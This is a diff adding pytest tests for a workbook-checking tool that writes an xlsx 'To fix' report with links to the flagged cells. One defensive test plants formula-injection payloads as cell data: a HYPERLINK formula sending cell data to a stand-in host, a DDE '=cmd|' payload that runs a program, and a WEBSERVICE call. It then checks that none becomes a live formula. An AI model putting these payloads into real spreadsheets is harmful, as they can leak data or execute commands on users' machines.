@@ -138,3 +138,58 @@ def test_a_workspace_without_tables_loads_nothing_that_reads_them() -> None:
     )
     done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert done.stdout.strip() == "[]"
+
+
+# -- what is to be fixed, in a copy of the workbook --------------------------------------------------------------------
+def fixes(folder: Path, *options: str) -> Path:
+    out = folder / "out.xlsx"
+    assert main(["-w", str(folder), "check", *ON, *options, "-o", str(out)]) == 0
+    return out
+
+
+def test_the_report_is_a_copy_of_the_workbook_with_links_to_its_cells(folder: Path) -> None:
+    book = openpyxl.load_workbook(fixes(folder))
+    assert book.sheetnames == ["To fix", "Verzeichnis", "Summen"]
+    assert book["Verzeichnis"]["B4"].value == "Lohnabrechnung"
+    assert book["Verzeichnis"]["B3"].fill.fgColor.rgb == "FFDDEEFF"
+    assert book["Summen"]["A1"].value == "=COUNTA(Verzeichnis!A4:A5)"
+    sheet = book["To fix"]
+    found = findings(folder)
+    assert sheet.max_row - 1 == len(found)
+    links = {(row[4].value, row[9].hyperlink.location) for row in sheet.iter_rows(min_row=2) if row[9].hyperlink}
+    assert links == {(item["message"], f"'Verzeichnis'!{item['where']['cell'].split('!')[1]}") for item in found}
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_the_same_workbook_and_findings_give_the_same_bytes(folder: Path) -> None:
+    first = fixes(folder).read_bytes()
+    assert fixes(folder).read_bytes() == first
+
+
+def test_no_text_becomes_a_formula_and_none_reaches_out(folder: Path) -> None:
+    edited(folder / "register.xlsx", B5='=HYPERLINK("https://x.example/"&A4,"go")', C5="=cmd|' /C calc'!A0", K5='=WEBSERVICE("https://x.example")')
+    book = openpyxl.load_workbook(fixes(folder))
+    live = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert live == ["=COUNTA(Verzeichnis!A4:A5)"]
+
+
+def test_a_report_without_names_is_no_copy_of_what_holds_them(folder: Path) -> None:
+    assert openpyxl.load_workbook(fixes(folder, "--redact")).sheetnames == ["To fix", "Rules applied"]
+
+
+def test_several_workbooks_get_a_copy_each_in_a_folder(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    workbook(folder / "second.xlsx", APPLICANTS)
+    with (folder / "ropa.toml").open("a", encoding="utf-8") as settings:
+        settings.write('[[tables]]\nfile = "second.xlsx"\ncontroller-id = "second"\n')
+    assert openpyxl.load_workbook(fixes(folder)).sheetnames == ["To fix", "Rules applied"]
+    assert "(register.xlsx, second.xlsx)" in capsys.readouterr().err
+    (folder / "copies").mkdir()
+    main(["-w", str(folder), "check", *ON, "--format", "xlsx", "-o", str(folder / "copies")])
+    assert sorted(path.name for path in (folder / "copies").iterdir()) == ["findings.xlsx", "register.xlsx", "second.xlsx"]
+
+
+def test_a_report_never_takes_the_place_of_the_workbook(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    before = (folder / "register.xlsx").read_bytes()
+    assert main(["-w", str(folder), "check", *ON, "-o", str(folder / "register.xlsx")]) == 2
+    assert "is a document of the workspace" in capsys.readouterr().err
+    assert (folder / "register.xlsx").read_bytes() == before
